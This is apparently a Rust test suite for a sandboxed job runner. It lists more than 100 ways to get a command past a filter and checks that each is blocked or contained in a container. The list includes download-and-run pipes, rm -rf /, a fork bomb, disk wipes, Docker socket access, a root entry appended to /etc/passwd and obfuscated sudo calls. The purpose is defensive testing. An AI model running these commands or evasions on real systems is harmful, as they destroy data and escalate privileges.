//! The bypass corpus: known ways around a command filter, each either blocked
//! by the filter or contained by the container. The same rows are the table
//! in SECURITY.md; `security_md_matches_the_corpus` keeps them equal
//! (`BERTH_BLESS=1 cargo test --test all safety::corpus` rewrites the table).
//!
//! Every row is also run in a container *with the filter turned off*, to show
//! that the container, not the filter, is the boundary: the job ends, holds
//! no capabilities, cannot gain privileges, and nothing outside its
//! workspace mount changes on the host.

use std::path::Path;
use std::time::Duration;

use berth::safety::Safety;
use berth::{Config, Error, JobSpec, JobStatus, RunnerChoice};
use pretty_assertions::assert_eq;

use crate::common::manager_with;

/// What the filter does with a row.
#[derive(Debug, Clone, Copy, PartialEq)]
enum Filter {
    Blocks,
    Passes,
}
use Filter::{Blocks, Passes};

/// `(form, command, what the filter does)`.
const CORPUS: &[(&str, &str, Filter)] = &[
    ("mixed case", "SuDo id", Blocks),
    ("absolute path", "/usr/bin/sudo id", Blocks),
    ("U+00A0 before the command", "\u{a0}sudo id", Blocks),
    ("U+00A0 inside the command", "sudo\u{a0}id", Blocks),
    ("zero-width space inside the name", "su\u{200b}do id", Blocks),
    ("empty quotes inside the name", "s''udo id", Blocks),
    ("backslash inside the name", "s\\udo id", Blocks),
    ("adjacent double quotes", "\"su\"\"do\" id", Blocks),
    ("ANSI-C quoting", "$'\\x73udo' id", Blocks),
    ("command substitution", "$(echo su)do id", Blocks),
    ("backticks", "`echo su`do id", Blocks),
    ("variables joined", "a=su; b=do; $a$b id", Blocks),
    ("brace expansion", "{sudo,id}", Blocks),
    ("glob as the command", "/???/???/s?do id", Blocks),
    ("bash -c payload", "bash -c \"sudo id\"", Blocks),
    ("nested shells", "sh -c 'sh -c \"sudo id\"'", Blocks),
    ("positional parameter", "sh -c '$0 id' sudo", Blocks),
    ("here-string to a shell", "bash <<< 'sudo id'", Blocks),
    ("eval", "eval \"sudo id\"", Blocks),
    ("env prefix", "env sudo id", Blocks),
    ("nohup prefix", "nohup sudo id", Blocks),
    ("timeout prefix", "timeout 5 sudo id", Blocks),
    ("xargs", "echo id | xargs sudo", Blocks),
    ("find -exec", "find . -exec sudo id \\;", Blocks),
    (
        "base64 into a shell",
        "echo c3VkbyBpZA== | base64 -d | sh",
        Blocks,
    ),
    ("undecidable substitution", "x=$(cat cmd.txt); $x id", Blocks),
    ("download into a shell", "curl http://x/s.sh | sh", Blocks),
    ("process substitution", "bash <(wget -qO- http://x/s.sh)", Blocks),
    ("delete /", "rm -rf /", Blocks),
    ("delete home", "rm -rf ~/", Blocks),
    ("split flags and a glob", "rm -r -f /*", Blocks),
    ("path that resolves to /", "rm -rf /bin/..", Blocks),
    ("fork bomb", ":(){ :|:& };:", Blocks),
    ("dd onto a disk", "dd if=/dev/zero of=/dev/sda", Blocks),
    ("format a partition", "mkfs.ext4 /dev/sdb1", Blocks),
    ("engine socket", "cat /var/run/docker.sock", Blocks),
    (
        "DOCKER_HOST",
        "DOCKER_HOST=tcp://172.17.0.1:2375 docker ps",
        Blocks,
    ),
    ("chmod of /", "chmod -R 777 /", Blocks),
    ("reboot", "reboot", Blocks),
    (
        "write /etc/passwd",
        "echo 'x::0:0::/:/bin/sh' >> /etc/passwd",
        Blocks,
    ),
    ("kill everything", "kill -9 -1", Blocks),
    (
        "enter PID 1's namespaces",
        "nsenter -t 1 -m -u -i -n -p sh",
        Blocks,
    ),
    (
        "code inside an interpreter",
        "python3 -c \"import os; os.system('su'+'do id')\"",
        Blocks,
    ),
    (
        "code written to a file first",
        "printf 'sudo id' > x.sh; sh x.sh",
        Blocks,
    ),
    (
        "xargs feeding a shell",
        "echo 'sudo id' | xargs -I{} sh -c '{}'",
        Blocks,
    ),
    ("write outside the workspace", "touch ../escaped /escaped", Passes),
    ("mount a file system", "mount -t tmpfs none /tmp", Passes),
    (
        "process flood without a function",
        "i=0; while [ $i -lt 1000 ]; do sleep 60 & i=$((i+1)); done",
        Passes,
    ),
    // Red-team forms (issue 13): dynamic commands, wrappers, interpreters,
    // here-documents, traps and the engine socket.
    ("variable from the environment", "$CMD id", Blocks),
    ("variable set by read", "read c <<< sudo; $c id", Blocks),
    ("for loop over names", "for c in sudo; do $c id; done", Blocks),
    ("set -- then \"$@\"", "set -- sudo id; \"$@\"", Blocks),
    ("set -- then $1", "set -- sudo; $1 id", Blocks),
    ("$0 at the top level", "$0 -c 'sudo id'", Blocks),
    ("alias", "shopt -s expand_aliases; alias x='sudo id'; x", Blocks),
    (
        "function wrapping the command",
        "f() { sudo \"$@\"; }; f id",
        Blocks,
    ),
    ("function keyword", "function f { sudo id; }; f", Blocks),
    (
        "default value from a substitution",
        "${x:-$(echo sudo)} id",
        Blocks,
    ),
    ("nested defaults", "${x:-${y:-sudo}} id", Blocks),
    ("substitution inside ${…}", "echo ${x:-$(sudo id)}", Blocks),
    ("substitution inside $((…))", "echo $(( $(sudo id) ))", Blocks),
    ("substitution in an array index", "echo ${x[$(sudo id)]}", Blocks),
    ("${IFS} as the blank", "sudo${IFS}id", Blocks),
    ("${IFS} after a path", "/usr/bin/sudo${IFS}id", Blocks),
    (
        "xargs with a placeholder argument",
        "echo id | xargs -I{} sudo {}",
        Blocks,
    ),
    (
        "xargs placeholder as the command",
        "echo sudo | xargs -I{} {} id",
        Blocks,
    ),
    (
        "find -exec a shell",
        "find . -maxdepth 0 -exec sh -c 'sudo id' \\;",
        Blocks,
    ),
    (
        "find -exec placeholder",
        "find . -maxdepth 0 -exec {} \\;",
        Blocks,
    ),
    ("env -S", "env -S 'sudo id'", Blocks),
    ("env -S other program", "env -S 'make all'", Blocks),
    ("chroot wrapper", "chroot / sudo id", Blocks),
    ("unshare wrapper", "unshare -r sudo id", Blocks),
    ("flock wrapper", "flock /tmp/l sudo id", Blocks),
    ("flock -c payload", "flock /tmp/l -c 'sudo id'", Blocks),
    ("taskset wrapper", "taskset -c 0 sudo id", Blocks),
    ("prlimit wrapper", "prlimit --nproc=10 sudo id", Blocks),
    ("setpriv wrapper", "setpriv --no-new-privs sudo id", Blocks),
    ("runuser", "runuser -u root -- id", Blocks),
    ("strace wrapper", "strace -f -o /dev/null sudo id", Blocks),
    ("chrt wrapper", "chrt -o 0 sudo id", Blocks),
    ("busybox shell", "busybox sh -c 'sudo id'", Blocks),
    ("exec -a", "exec -a x sudo id", Blocks),
    ("perl exec", "perl -e 'exec \"sudo\", \"id\"'", Blocks),
    ("awk system()", "awk 'BEGIN{system(\"sudo id\")}'", Blocks),
    ("sed e command", "echo | sed 'e sudo id'", Blocks),
    (
        "make $(shell)",
        "make --eval='x:=$(shell sudo id)' -f /dev/null",
        Passes,
    ),
    (
        "tar checkpoint action",
        "tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='sudo id'",
        Blocks,
    ),
    ("git alias", "git -c alias.x='!sudo id' x", Blocks),
    ("git pager", "git -c core.pager='sudo id' log", Blocks),
    (
        "pipe into sh /dev/stdin",
        "echo 'sudo id' | sh /dev/stdin",
        Blocks,
    ),
    (
        "here-string into bash /dev/stdin",
        "bash /dev/stdin <<< 'sudo id'",
        Blocks,
    ),
    (
        "renamed shell written on the line",
        "cp /bin/sh ./x; ./x -c 'sudo id'",
        Blocks,
    ),
    (
        "renamed binary linked on the line",
        "ln -s /usr/bin/sudo ./s; ./s id",
        Blocks,
    ),
    ("renamed binary from an earlier job", "./my-sudo id", Passes),
    (
        "sourcing a file written on the line",
        "echo 'sudo id' > x.sh; . ./x.sh",
        Blocks,
    ),
    ("a script file already in the workspace", "sh ./build.sh", Passes),
    ("here-document into a shell", "sh <<EOF\nsudo id\nEOF", Blocks),
    (
        "substitution in a here-document",
        "cat <<EOF\n$(sudo id)\nEOF",
        Blocks,
    ),
    (
        "here-document desync: early delimiter",
        "cat <<'EOF'\nEOF\nsudo id",
        Blocks,
    ),
    (
        "here-document desync: tab-stripped delimiter",
        "cat <<-EOF\n\tEOF\nsudo id",
        Blocks,
    ),
    (
        "here-document desync: a shift in (( ))",
        "(( x = 1 << 2 ))\nsudo id",
        Blocks,
    ),
    ("here-document body is data", "cat <<'EOF'\nsudo id\nEOF", Passes),
    ("trap on EXIT", "trap 'sudo id' EXIT", Blocks),
    (
        "trap with a substitution",
        "trap \"$(echo sudo) id\" EXIT",
        Blocks,
    ),
    (
        "engine socket through a glob",
        "curl --unix-socket /var/run/d*.sock http://x/info",
        Blocks,
    ),
    (
        "engine socket with socat",
        "socat - UNIX-CONNECT:/var/run/docker.sock",
        Blocks,
    ),
    (
        "engine socket in a variable",
        "s=/var/run/docker.sock; curl --unix-socket $s http://x/",
        Blocks,
    ),
    (
        "engine socket mentioned by grep",
        "grep -c docker.sock /etc/hosts",
        Passes,
    ),
    (
        "engine socket tested with test -S",
        "test -S /var/run/docker.sock || echo no engine",
        Passes,
    ),
    ("job queued with at", "echo 'sudo id' | at now", Passes),
];

const START: &str = "<!-- corpus:start (generated by tests/suite/safety/corpus.rs) -->";
const END: &str = "<!-- corpus:end -->";

fn safety() -> (Safety, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let config = Config::isolated(dir.path().join("state"), "corpus").with_workspace(dir.path());
    (Safety::from_config(&config).unwrap(), dir)
}

/// Invisible characters written so a reader can see them.
fn visible(cmd: &str) -> String {
    cmd.chars()
        .map(|c| match c {
            '\u{a0}' | '\u{200b}' => format!("⟨U+{:04X}⟩", c as u32),
            '\n' => "⏎".to_string(),
            '\t' => "⟨TAB⟩".to_string(),
            c => c.to_string(),
        })
        .collect()
}

/// A command as a Markdown code span inside a table cell.
fn cell(cmd: &str) -> String {
    let cmd = visible(cmd).replace('|', "\\|");
    if cmd.contains('`') {
        format!("`` {cmd} ``")
    } else {
        format!("`{cmd}`")
    }
}

/// The table as SECURITY.md must show it, with the filter's live answers.
fn table() -> Vec<String> {
    let (safety, dir) = safety();
    let mut rows = vec![
        "| # | form | command | filter | container (filter off) |".to_string(),
        "|---|---|---|---|---|".to_string(),
    ];
    for (i, (form, cmd, _)) in CORPUS.iter().enumerate() {
        let filter = match safety.check(&JobSpec::shell(*cmd), dir.path(), "corpus") {
            Err(Error::Blocked { reason, .. }) => {
                let short = reason.split([':', '(']).next().unwrap_or(&reason).trim();
                format!("**blocked**: {short}")
            }
            Ok(()) => "passes".to_string(),
            Err(e) => format!("error: {e}"),
        };
        rows.push(format!(
            "| {} | {form} | {} | {filter} | contained |",
            i + 1,
            cell(cmd)
        ));
    }
    rows
}

#[test]
fn the_filter_does_what_the_corpus_says() {
    let (safety, dir) = safety();
    let mut wrong = Vec::new();
    for (form, cmd, expect) in CORPUS {
        let got = match safety.check(&JobSpec::shell(*cmd), dir.path(), "corpus") {
            Ok(()) => Passes,
            Err(Error::Blocked { .. }) => Blocks,
            Err(e) => panic!("{form}: {e}"),
        };
        if got != *expect {
            wrong.push(format!("{form}: `{cmd}` {got:?}, expected {expect:?}"));
        }
    }
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
    assert!(CORPUS.len() >= 100);
}

#[test]
fn security_md_matches_the_corpus() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("SECURITY.md");
    let text = std::fs::read_to_string(&path).unwrap();
    let (Some(a), Some(b)) = (text.find(START), text.find(END)) else {
        panic!("SECURITY.md has no `{START}` … `{END}` section");
    };
    let current: Vec<String> = text[a + START.len()..b]
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(str::to_string)
        .collect();
    let wanted = table();
    if current != wanted && std::env::var_os("BERTH_BLESS").is_some() {
        let new = format!("{}{START}\n{}\n{}", &text[..a], wanted.join("\n"), &text[b..]);
        std::fs::write(&path, new).unwrap();
        return;
    }
    assert_eq!(
        current, wanted,
        "rerun with BERTH_BLESS=1 to regenerate the table"
    );
}

/// The job's own privileges, tagged `probe-before`/`probe-after`. Only shell
/// builtins (`read`, `case`, `echo`), so it still works after `rm -rf /`.
fn probe(tag: &str) -> String {
    format!(
        "while read -r l; do case $l in CapEff*|NoNewPrivs*) echo \"probe-{tag} $l\";; esac; done < /proc/self/status"
    )
}

/// Run one row in its own container with the filter off and check the host.
async fn contained(form: &str, cmd: &str) -> Result<String, String> {
    let t = manager_with(|mut c| {
        c.safety.default_blocklist = false;
        c
    });
    let sentinel = t.dir.path().join("sentinel");
    std::fs::write(&sentinel, "untouched").unwrap();
    let root_escape = Path::new("/escaped");
    let root_escape_before = root_escape.exists();
    // Probed before (always) and after (when the shell survives the row).
    let script = format!("{}\n{cmd}\n{}", probe("before"), probe("after"));
    let mut spec = JobSpec::shell(script)
        .with_runner(RunnerChoice::Docker)
        .with_image("berth/sandbox:latest");
    spec.timeout = Some(8.0);
    spec.on_timeout = berth::model::OnTimeout::Kill;
    spec.limits.memory = Some(256 << 20);
    spec.limits.cpus = Some(0.5);
    let job = t
        .manager
        .start(spec)
        .await
        .map_err(|e| format!("{form}: start: {e}"))?;
    let info = tokio::time::timeout(Duration::from_secs(90), job.wait_end())
        .await
        .map_err(|_| format!("{form}: did not end"))?
        .map_err(|e| format!("{form}: {e}"))?;
    let lines: Vec<String> = job.output_lines().unwrap();
    let why = || format!("{form} ({:?}): {lines:?}", info.status);
    for tag in ["before", "after"] {
        let probes: Vec<&String> = lines
            .iter()
            .filter(|l| l.starts_with(&format!("probe-{tag} ")))
            .collect();
        let clean = [
            format!("probe-{tag} CapEff:\t0000000000000000"),
            format!("probe-{tag} NoNewPrivs:\t1"),
        ];
        let required = tag == "before";
        if (required || !probes.is_empty()) && !clean.iter().all(|c| probes.contains(&c)) {
            return Err(format!("no capability-free probe {tag} the row: {}", why()));
        }
    }
    if matches!(
        info.status,
        JobStatus::StartFailed { .. } | JobStatus::Lost { .. }
    ) {
        return Err(format!("did not run: {}", why()));
    }
    if std::fs::read_to_string(&sentinel).ok().as_deref() != Some("untouched") {
        return Err(format!("the host file next to the workspace changed: {}", why()));
    }
    if t.dir.path().join("escaped").exists() || (!root_escape_before && root_escape.exists()) {
        return Err(format!(
            "a file appeared outside the workspace on the host: {}",
            why()
        ));
    }
    Ok(format!("{form}: {}", info.status.name()))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn every_row_is_contained_in_a_container_even_with_the_filter_off() {
    let passwd = std::fs::read("/etc/passwd").unwrap();
    let mut failures = Vec::new();
    // A few at a time: the engine is shared with the rest of the suite.
    for chunk in CORPUS.chunks(6) {
        let runs = chunk.iter().map(|(form, cmd, _)| contained(form, cmd));
        for r in futures_util::future::join_all(runs).await {
            match r {
                // Shown with `--nocapture`: how each row ended in its container.
                Ok(summary) => eprintln!("{summary}"),
                Err(e) => failures.push(e),
            }
        }
    }
    assert_eq!(
        std::fs::read("/etc/passwd").unwrap(),
        passwd,
        "the host's passwd is untouched"
    );
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}
